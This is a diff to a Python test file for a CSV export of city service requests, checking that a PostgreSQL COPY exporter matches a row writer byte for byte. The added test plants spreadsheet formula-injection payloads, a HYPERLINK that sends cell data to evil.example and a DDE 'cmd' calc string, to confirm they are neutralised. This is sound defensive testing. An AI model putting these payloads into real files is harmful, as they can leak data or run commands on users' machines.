@@ -1,6 +1,6 @@
-"""On PostgreSQL the CSV export streams COPY's output: the file reads back the same as the
+"""On PostgreSQL the CSV export streams COPY's output: the same file, byte for byte, as the
 row-by-row writer's (times in the city's zone, blanks, floats, scrubbed free text, quoted
-newlines), and is the same byte for byte where no field holds a lone carriage return."""
+newlines and carriage returns, text that would run as a formula made inert)."""
 
 import csv
 import io
@@ -39,6 +39,30 @@ def test_it_writes_what_the_row_writer_writes(nyc, residents_requests):
 
     assert copied == written == 1003
     assert records(by_copy.getvalue()) == records(by_rows.getvalue())
-    assert by_copy.getvalue().splitlines()[:50] == by_rows.getvalue().splitlines()[:50]
+    assert by_copy.getvalue() == by_rows.getvalue()
     assert "[phone removed]" in by_copy.getvalue()
     assert "Write to [email removed] or call [phone removed]" in by_copy.getvalue()
+
+
+def test_it_makes_formulas_inert_as_the_row_writer_does(residents_requests):
+    first, second, third = residents_requests[:3]
+    ServiceRequest.objects.filter(pk=first.pk).update(
+        description='=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+        address="@SUM(1+1)*cmd|'/C calc'!A0",
+    )
+    ServiceRequest.objects.filter(pk=second.pk).update(
+        status_notes="\r=1+1", closure_reason="-2+3", zipcode="+1", description="\tTab"
+    )
+    ServiceRequest.objects.filter(pk=third.pk).update(
+        description="A lone\rcarriage return", status_notes="", closure_reason=""
+    )
+    by_rows, by_copy = io.StringIO(), io.StringIO()
+
+    written = write_csv(public_rows(), by_rows)
+    copied = copy_csv(published_requests(), by_copy)
+
+    assert copied == written == 3
+    assert by_copy.getvalue() == by_rows.getvalue()
+    assert ",'@SUM(1+1)*cmd|'/C calc'!A0," in by_copy.getvalue()
+    assert '"\'\r=1+1"' in by_copy.getvalue()
+    assert '"A lone\rcarriage return"' in by_copy.getvalue()
